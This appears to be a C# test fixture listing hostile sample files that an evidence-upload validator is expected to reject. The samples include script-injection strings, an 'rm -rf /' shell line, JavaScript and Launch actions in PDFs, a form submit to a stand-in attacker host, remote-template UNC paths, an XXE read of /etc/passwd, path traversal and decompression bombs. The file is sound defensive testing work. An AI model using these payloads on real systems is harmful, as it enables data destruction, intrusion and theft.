using System.Text;
using DitSite.Bookings.Evidence;
using static DitSite.Bookings.Evidence.FileRefusal;
using static DitSite.Tests.Bookings.Evidence.SampleFiles;

namespace DitSite.Tests.Bookings.Evidence;

/// <summary>Sixty files that nobody may be given, each with the reason it has to be refused for.</summary>
internal static class HostileFiles
{
    private const string Trailer = "trailer";

    public static IReadOnlyList<(string Name, byte[] Content, FileRefusal Why)> All { get; } =
    [
        ("empty.pdf", [], Empty),
        ("too-large.pdf", [.. Pdf(), .. new byte[EvidenceStore.MostLength]], TooLarge),
        ("page.html", "<!doctype html><script>alert(1)</script>"u8.ToArray(), WrongType),
        ("picture.svg", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"u8.ToArray(), WrongType),
        ("named.pdf", "<html>not a pdf</html>"u8.ToArray(), WrongType),
        ("program.exe", [.. "MZ"u8, .. new byte[200]], WrongType),
        ("program", [0x7F, .. "ELF"u8, .. new byte[200]], WrongType),
        ("app.hta", "<hta:application id=x><script>x</script>"u8.ToArray(), WrongType),
        ("anim.gif", "GIF89a=1;alert(1)//"u8.ToArray(), WrongType),
        ("shell.sh", "#!/bin/sh\nrm -rf /"u8.ToArray(), WrongType),
        ("sound.mp3", [.. "ID3"u8, .. new byte[100]], WrongType),
        ("film.mp4", [0, 0, 0, 24, .. "ftypmp42"u8, .. new byte[100]], WrongType),
        ("eicar.com", Encoding.ASCII.GetBytes(@"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"), WrongType),
        ("archive.zip", Zip(("a.txt", "hello"u8.ToArray())), WrongType),
        ("sheet.docx", Zip(("[Content_Types].xml", "<Types/>"u8.ToArray()), ("xl/workbook.xml", "<x/>"u8.ToArray())), WrongType),
        ("mislabelled.docx", Docx(contentType: "application/xml"), WrongType),
        ("program.jar", Zip(("META-INF/MANIFEST.MF", "Main-Class: X"u8.ToArray())), WrongType),
        ("letter.doc", [0xD0, 0xCF, 0x11, 0xE0, .. new byte[600]], OldWord),
        ("secret.docx", [0xD0, 0xCF, 0x11, 0xE0, .. new byte[600], .. Encoding.Unicode.GetBytes("EncryptedPackage")], Encrypted),
        ("secret.pdf", Pdf(more: "9 0 obj\n<< /Filter /Standard /V 4 >>\nendobj\n").Replaced(Trailer, "% "), Damaged),
        ("locked.pdf", Pdf().Replaced("/Root 1 0 R", "/Root 1 0 R /Encrypt 9 0 R"), Encrypted),
        ("cut.pdf", Pdf()[..100], Damaged),
        ("script.pdf", Pdf("/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), PdfWithScript),
        ("script-in-names.pdf", Pdf("/Names << /JavaScript 9 0 R >>"), PdfWithScript),
        ("script-escaped.pdf", Pdf("/OpenAction << /S /J#61va#53cript >>"), PdfWithScript),
        ("script-short.pdf", Pdf(more: "9 0 obj << /J#53 (x) >> endobj\n"), PdfWithScript),
        ("script-packed.pdf", Pdf(more: Packed(9, "/Type /ObjStm /N 1 /First 4", "10 0 << /S /JavaScript /JS (x) >>")), PdfWithScript),
        ("script-packed-escaped.pdf", Pdf(more: Packed(9, "/Type /Obj#53tm /N 1 /First 4", "10 0 << /S /Java#53cript >>")), PdfWithScript),
        ("objects-hidden.pdf", Pdf(more: "9 0 obj\n<< /Type /ObjStm /Filter /LZWDecode >>\nstream\nxxxx\nendstream\nendobj\n"), PdfWithScript),
        ("form.pdf", Pdf("/AcroForm << /XFA 9 0 R >>"), PdfWithScript),
        ("launch.pdf", Pdf("/OpenAction << /S /Launch /F (cmd.exe) >>"), PdfThatLaunches),
        ("launch-packed.pdf", Pdf(more: Packed(9, "/Type /ObjStm /N 1 /First 4", "10 0 << /S /Launch >>")), PdfThatLaunches),
        ("submit.pdf", Pdf("/OpenAction << /S /SubmitForm /F (https://attacker.test) >>"), PdfThatLaunches),
        ("elsewhere.pdf", Pdf("/OpenAction << /S /GoToR /F (\\\\\\\\attacker\\\\x) >>"), PdfThatLaunches),
        ("import.pdf", Pdf("/OpenAction << /S /ImportData >>"), PdfThatLaunches),
        ("attached.pdf", Pdf("/Names << /EmbeddedFiles 9 0 R >>"), PdfWithFiles),
        ("attached-file.pdf", Pdf(more: Packed(9, "/Type /EmbeddedFile", "MZ")), PdfWithFiles),
        ("film.pdf", Pdf(more: "9 0 obj << /Subtype /RichMedia >> endobj\n"), PdfWithFiles),
        ("model.pdf", Pdf(more: "9 0 obj << /Subtype /3D >> endobj\n"), PdfWithFiles),
        ("pdf-and-zip.pdf", [.. Pdf(), .. Zip(("a.txt", "x"u8.ToArray()))], Polyglot),
        ("pdf-and-html.pdf", [.. Pdf(), .. "<script>alert(1)</script>"u8], Polyglot),
        ("html-and-pdf.pdf", [.. "<html>"u8, .. Pdf()], Polyglot),
        ("pdf-head-html.pdf", Pdf().Replaced("%PDF-1.7\n", "%PDF-1.7\n%<script>alert(1)</script>\n"), Polyglot),
        ("bomb.pdf", Pdf(more: Packed(9, "", new('\0', 100_100_000))), ArchiveBomb),
        ("macro.docx", Docx(contentType: "application/vnd.ms-word.document.macroEnabled.main+xml"), WordWithMacros),
        ("macro-part.docx", Docx(more: ("word/vbaProject.bin", [1, 2, 3])), WordWithMacros),
        ("template.docx", Docx(more: ("word/_rels/settings.xml.rels", Encoding.UTF8.GetBytes($"<Relationships>{External("attachedTemplate")}</Relationships>"))), WordWithRemoteParts),
        ("template-share.docx", Docx(relationship: External("attachedTemplate", @"\\attacker\x.dotm", "Internal")), WordWithRemoteParts),
        ("tracker.docx", Docx(relationship: External("image")), WordWithRemoteParts),
        ("frame.docx", Docx(relationship: External("frame")), WordWithRemoteParts),
        ("object.docx", Docx(relationship: External("oleObject")), WordWithRemoteParts),
        ("embedded.docx", Docx(more: ("word/embeddings/oleObject1.bin", [1])), WordWithEmbeddedParts),
        ("control.docx", Docx(more: ("word/activeX/activeX1.xml", "<x/>"u8.ToArray())), WordWithEmbeddedParts),
        ("entities.docx", Docx(more: ("word/settings.xml", "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>"u8.ToArray())), Damaged),
        ("bomb.docx", Docx(more: ("word/media/x.bin", new byte[100_100_000])), ArchiveBomb),
        ("many.docx", Docx(more: [.. Enumerable.Range(0, 2_001).Select(number => ($"word/x{number}.xml", "<x/>"u8.ToArray()))]), ArchiveBomb),
        ("climb.docx", Docx(more: ("../../etc/x", [1])), Polyglot),
        ("docx-and-more.docx", [.. Docx(), .. "<script>"u8], Polyglot),
        ("png-and-html.png", [.. Png(), .. "<script>alert(1)</script>"u8], Polyglot),
        ("pixels.png", Png(60_000, 60_000, new byte[10]), PixelBomb),
        ("unpacks.png", Png(2, 2, new byte[5_000_000]), PixelBomb),
        ("unknown.png", Png(more: ("ABCD", [1, 2, 3])), UnknownImagePart),
        ("broken.png", Png()[..^6], Damaged),
        ("changed.png", Png().With(29, 0xFF), Damaged),
        ("jpeg-and-zip.jpg", [.. Jpeg(), .. Zip(("a.txt", "x"u8.ToArray()))], Polyglot),
        ("pixels.jpg", Jpeg(60_000, 60_000), PixelBomb),
        ("unknown.jpg", Jpeg(more: Segment(0xF0, [1, 2])), UnknownImagePart),
        ("cut.jpg", Jpeg()[..40], Damaged),
    ];

    private static byte[] Replaced(this byte[] file, string old, string with) =>
        Encoding.Latin1.GetBytes(Encoding.Latin1.GetString(file).Replace(old, with, StringComparison.Ordinal).Replace("%%EOF\n", with == "% " ? "" : "%%EOF\n", StringComparison.Ordinal));

    private static byte[] With(this byte[] file, int position, byte value)
    {
        file[position] = value;
        return file;
    }
}
